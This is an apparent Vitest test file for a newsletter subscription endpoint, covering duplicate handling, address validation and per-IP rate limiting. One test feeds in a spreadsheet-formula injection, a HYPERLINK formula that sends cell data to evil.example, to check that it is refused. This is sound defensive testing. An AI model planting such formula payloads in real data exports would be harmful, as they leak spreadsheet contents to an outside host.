import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NEWSLETTER_ATTEMPTS_PER_MINUTE, NEWSLETTER_MESSAGES, NEWSLETTER_PATH } from '../../../domain/newsletter';
import { newsletterSubscriptions } from '../../db/schema/newsletter';
import { createTestApp, type TestApp } from '../../testing/test-app';

let app: TestApp;
beforeAll(async () => {
  app = await createTestApp();
});
afterAll(() => app.close());

const subscribe = (email: unknown, ip = '203.0.113.1') =>
  app.server.inject({ method: 'POST', url: NEWSLETTER_PATH, payload: { email }, remoteAddress: ip });

describe('the newsletter', () => {
  it('a visitor subscribes once: the address is stored lower-cased, and any casing of it is a duplicate', async () => {
    const first = await subscribe('  Reader@Example.com ');
    expect(first.statusCode).toBe(200);
    expect(first.json()).toEqual({ message: NEWSLETTER_MESSAGES.subscribed });
    const again = await subscribe('READER@example.COM');
    expect(again.statusCode).toBe(409);
    expect(again.json()).toEqual({ message: NEWSLETTER_MESSAGES.duplicate });
    const rows = await app.database.db.select().from(newsletterSubscriptions);
    expect(rows).toMatchObject([{ email: 'reader@example.com', isActive: true }]);
  });

  it('refuses several lines with a spreadsheet formula in one address, and stores nothing', async () => {
    const planted = 'kid@example.com\r\n=HYPERLINK("http://evil.example/?"&A1,"Click")@x\r\nplanted@evil.example';
    for (const email of [planted, 'a\u0007b@example.com', 'a\u202eb@example.com', 'x@y']) {
      const response = await subscribe(email, '203.0.113.9');
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ message: NEWSLETTER_MESSAGES.invalidEmail });
    }
    const rows = await app.database.db.select().from(newsletterSubscriptions);
    expect(rows.filter((r) => r.email !== 'reader@example.com')).toEqual([]);
  });

  it('refuses an address without an at-sign, and stores nothing', async () => {
    for (const email of ['', 'nobody', 42]) {
      const response = await subscribe(email, '203.0.113.2');
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ message: NEWSLETTER_MESSAGES.invalidEmail });
    }
    expect(await app.database.db.select().from(newsletterSubscriptions)).toHaveLength(1);
  });

  it(`limits one address to ${NEWSLETTER_ATTEMPTS_PER_MINUTE} attempts a minute; others are not affected`, async () => {
    for (let i = 0; i < NEWSLETTER_ATTEMPTS_PER_MINUTE; i++) {
      expect((await subscribe(`bulk${i}@example.com`, '203.0.113.3')).statusCode).toBe(200);
    }
    expect((await subscribe('one-more@example.com', '203.0.113.3')).statusCode).toBe(429);
    expect((await subscribe('neighbour@example.com', '203.0.113.4')).statusCode).toBe(200);
  });
});
